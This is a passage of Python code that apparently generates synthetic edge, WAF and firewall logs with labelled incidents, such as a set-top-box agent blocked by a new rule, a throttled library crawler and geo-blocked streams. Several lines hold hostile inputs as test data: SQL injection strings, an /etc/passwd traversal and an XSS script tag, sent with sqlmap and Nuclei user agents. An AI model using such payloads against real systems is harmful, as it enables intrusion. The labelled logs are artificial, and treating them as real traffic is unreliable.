"logName": "projects/%s-prod/logs/cloudaudit.googleapis.com%%2Fpolicy" % s.company, "receiveTimestamp": z(t + sec(1), 6)}), s.mail(4))
    for t in s.spread(0, 150, 5):
        k = s.some(0, 140)
        if s.r.random() < .12:
            place = s.r.choice(["Union+Square+and+Select+Cafe", "O'Connor+Union+Street", "King's+Cross+or+St+Pancras"]); path = "/places?q=" + place
            if s.minute(t) > cut: s.deny(p, gclb(s, f, t, s.ip(k), "GET", url(path), 403, "denied_by_security_policy", "DENY", priority=1000, action="DENY", ua=s.agent(k), expr=("owasp-crs-v030301-id942%d-sqli" % s.r.choice((190, 330, 370)), "ARG_VALUES", "q", place.replace("+", " ")[:16]), region=("DE", 64500 + k % 9)))
            else: gclb(s, f, t, s.ip(k), "GET", url(path), 200, "response_sent_by_backend", ua=s.agent(k), preview={"name": "edge-policy", "priority": 1000, "outcome": "DENY", "configuredAction": "DENY", "preconfiguredExprIds": ["owasp-crs-v030301-id942190-sqli"]})
        else: gclb(s, f, t, s.ip(k), "GET", url(s.r.choice(["/tiles/%d/%d/%d.png" % (s.some(8, 14), s.some(1, 900), s.some(1, 900)), "/", "/route?from=a&to=b"])), 200, "response_sent_by_backend", ua=s.agent(k))
    for n, t in enumerate(tries(s, s.some(cut + 10, 140), s.some(18, 30), .4, 2)): value = ("1' OR '1'='1", "' UNION SELECT NULL--", "1;WAITFOR DELAY '0:0:5'")[n % 3]; s.deny(x, gclb(s, f, t, s.foe, "GET", url("/places?q=" + urllib.parse.quote(value)), 403, "denied_by_security_policy", "DENY", priority=1000, action="DENY", ua="sqlmap/1.9.10#stable (https://sqlmap.org)", expr=("owasp-crs-v030301-id942100-sqli", "ARG_VALUES", "q", value[:16]), region=("NL", 64496)))
    for t in s.ticks(0, 150, 400): s.deny(l, gclb(s, f, t, s.away + "9", "GET", url("/tiles/3/1/%d.png" % s.some(1, 9)), 403, "denied_by_security_policy", "DENY", priority=100, action="DENY", ua="Go-http-client/2.0", region=("US", 64498)))
    for n, t in enumerate(tries(s, s.some(20, 110), 75, .1, .5)):
        over = n > 20; e = gclb(s, f, t, s.foe2, "GET", url("/tiles/16/%d/%d.png" % (n, n * 3)), 429 if over else 200, "denied_by_security_policy" if over else "response_sent_by_backend", "DENY" if over else None, priority=2000 if over else 2147483647, action="THROTTLE" if over else "ALLOW", ua="aiohttp/3.13", rate={"key": s.foe2, "outcome": "RATE_LIMIT_THRESHOLD_EXCEED"} if over else None)
        if over: s.deny(q, e)


@kind
def stream_of_an_edge(s):
    """Akamai DataStream: a security configuration activated at noon denies an old set-top box by its agent; a client list; the origin's own 403; an address of a customer's new proxy is not on the allow list"""
    h = s.host("tv"); f = "datastream.json"; cut = s.some(30, 60); what = changed(s, cut, s.mail(3), "AppSec configuration 81234 v57 activated on production: custom rule 60021432 (agents of first-generation set-top boxes) deny", "appsec:81234", "waf"); beside(s, cut - 6)
    b = inc(s, "set-top boxes with the old agent", "waf", "user-agent-blocked", MIS, BURST, what, layer=["edge"], cause=["waf-rule", "bot-challenge"]); w = inc(s, "injections", "waf", "waf-rule", ATT, "exploit-attempt", layer=["edge"], pattern=[SCAN]); o = inc(s, "rights ended at the origin", "application", "application-refused", WAI, STEADY, layer=["edge", "unknown"], cause=["unknown"], verdict=[UND], pattern=[SINGLE]); g = inc(s, "outside the licensed countries", "edge", "geo-blocked", WAI, SINGLE, layer=["waf"], pattern=[STEADY])
    for t in s.spread(0, 140, 4):
        k = s.some(0, 160); box = k % 8 == 0; ua = "STB/1.9 (Linux; armv7) QtEmbedded" if box else s.agent(k); path = s.r.choice(["/live/%d/index.m3u8" % s.some(1, 20), "/epg/today.json", "/vod/%d/seg-%d.ts" % (s.some(1, 40), s.some(1, 300))])
        if box and s.minute(t) > cut and s.r.random() < .6: s.deny(b, akamai(s, f, t, s.ip(k), "GET", path, 403, h, ua=ua, rules="TVp_81234||60021432"))
        elif path.startswith("/vod/13/"): s.deny(o, akamai(s, f, t, s.ip(k), "GET", path, 403, h, ua=ua, cache="0", mime="application/json"))
        else: akamai(s, f, t, s.ip(k), "GET", path, 200, h, ua=ua, cache=s.r.choice("01"), mime="video/mp2t")
    for j in range(s.some(4, 7)): t = s.at(s.some(1, 138), j); s.deny(o, akamai(s, f, t, s.ip(20 + j), "GET", "/vod/13/seg-%d.ts" % j, 403, h, ua=s.agent(j), mime="application/json"))
    for n, t in enumerate(tries(s, s.some(20, 100), s.some(20, 30), .3, 2)): q = ("id=1'+or+1=1--", "f=../../etc/passwd", "x=<script>alert(1)</script>")[n % 3]; s.deny(w, akamai(s, f, t, s.foe, "GET", "/epg/search", 403, h, "US", "Mozilla/5.0 (compatible; Nuclei)", query=q, rules="TVp_81234|%s|%s" % (("3000080:950203", "3000033", "958051:3000110")[n % 3], ("SQL-INJECTION-ANOMALY", "LFI-ANOMALY", "XSS-ANOMALY")[n % 3])))
    for t in s.spread(0, 140, 800): k = s.some(200, 230); s.deny(g, akamai(s, f, t, s.ip(k), "GET", "/live/3/index.m3u8", 403, h, s.r.choice(["US", "AU"]), s.agent(k), error="ERR_ACCESS_DENIED|fwd_acl", custom="deny=licence-geo;cc=US"))


@kind
def newspaper_at_an_edge(s):
    """Fastly with a WAF of the next generation: a partner's archive crawler is throttled although it has an agreement; court orders answer 451; an attacker's requests end in 406; purge calls without their key"""
    h = s.host("paper"); f = "fastly.log"; cut = s.some(30, 70); what = changed(s, cut, "edge-team", "service v214: rate limit 30/min for agents not on dictionary good_bots", "fastly:paper", "config"); beside(s, cut - 4, cut + 6)
    s.known = "partners:\n  - {name: national library, networks: [%s40/29], user_agents: [\"NatLibArchiver/*\"], owner: legal}\n" % s.there
    l = inc(s, "the library's archive robot is throttled", "edge", "rate-limited", MIS, STEADY, what, pattern=[BURST, "scrape", LOOP], verdict=[WAI]); c = inc(s, "articles closed by court order", "edge", "server-rule", WAI, STEADY, cause=["geo-blocked"], layer=["application"], pattern=[SINGLE], verdict=[UND]); x = inc(s, "attack requests", "waf", "waf-rule", ATT, "exploit-attempt", layer=["edge"], pattern=[SCAN])
    for t in s.spread(0, 150, 4): k = s.some(0, 180); fastly(s, f, t, s.ip(k), "GET", s.r.choice(["/", "/politics/%d" % s.some(1, 90), "/sports/%d" % s.some(1, 90)]), 200, h, ua=s.agent(k), state=s.r.choice(["HIT-CLUSTER", "MISS-CLUSTER", "HIT"]))
    for n, t in enumerate(s.ticks(0, 150, 40)):
        over = s.minute(t) > cut and n % 2; e = fastly(s, f, t, s.there + "42", "GET", "/archive/%d" % (1000 + n), 429 if over else 200, h, ua="NatLibArchiver/2.0 (+https://library.example/bot)", **({"rate_limit": {"name": "agents-30-per-min", "entries": 31}} if over else {}))
        if over: s.deny(l, e, None)
    for t in s.spread(0, 150, 200): k = s.some(0, 180); s.deny(c, fastly(s, f, t, s.ip(k), "GET", "/politics/7341", 451, h, ua=s.agent(k), state="ERROR"))
    for n, t in enumerate(tries(s, s.some(20, 130), s.some(20, 35), .3, 1.5)): s.deny(x, fastly(s, f, t, s.foe, "GET", ("/search?q=%27%20OR%201=1--", "/..%2f..%2fetc/passwd", "/?x=%3Cscript%3E")[n % 3], 406, h, "NL", "Mozilla/5.0 (X11; Linux x86_64)", "ERROR", waf={"agent_response": 406, "signals": [("SQLI", "TRAVERSAL", "XSS")[n % 3], "BLOCKED"], "blocked": True}))


@kind
def wall_of_a_hosting_house(s):
    """nftables' log and nginx behind it: a new rule for the admin port drops the night shift's home network; nginx refuses what the wall let through; the same people succeed elsewhere"""
    k_, a = "kern.log", "access.log"; cut = s.some(40, 70); what = changed(s, cut, "netops", "nftables: tcp dport 8443 only from @admins (%s0/24 removed, %s0/24 added)" % (s.there, s.here), "nft:admins", "allowlist"); beside(s, cut + 2)
    d = inc(s, "night shift's network dropped at the admin port", "firewall", "allowlist-drift", MIS, BURST, what, cause=["address-not-allowlisted", "permission-removed"]); w = inc(s, "strangers at the admin port", "firewall", "address-not-allowlisted", WAI, SCAN, verdict=[ATT, BOT], pattern=[STEADY, SINGLE]); p = inc(s, "panel's own refusals", "application", "application-refused", WAI, SINGLE, cause=["permission-missing", "unknown"], pattern=[STEADY], verdict=[UND])
    for t in s.spread(0, 140, 20):
        k = s.some(0, 11); ip = s.there + str(20 + k)
        if s.minute(t) > cut and s.r.random() < .4: s.deny(d, nft(s, k_, t, "nft-drop admin: ", ip, 8443), optional=True)
        elif s.minute(t) <= cut: upstreamed(s, a, t, ip, "GET", s.r.choice(["/panel/", "/panel/hosts/%d" % s.some(1, 60)]), 200, "200", user=s.who(k), ua=s.agent(k))
    for t in s.spread(0, 140, 15): k = s.some(20, 50); upstreamed(s, a, t, s.here + str(20 + k), "GET", s.r.choice(["/panel/", "/panel/hosts/%d" % s.some(1, 60)]), 200, "200", user=s.who(k), ua=s.agent(k))
    for j in range(s.some(4, 6)): t = s.at(s.some(1, 139), j); s.deny(p, upstreamed(s, a, t, s.here + str(20 + 30 + j % 3), "POST", "/panel/hosts/%d/delete" % s.some(1, 60), 403, "403", user=s.who(30 + j % 3), ua=s.agent(j)), s.who(30 + j % 3))
    for j, t in enumerate(s.spread(0, 140, 110)): s.deny(w, nft(s, k_, t, "nft-drop admin: ", s.zombies[j % 60], 8443), optional=True)
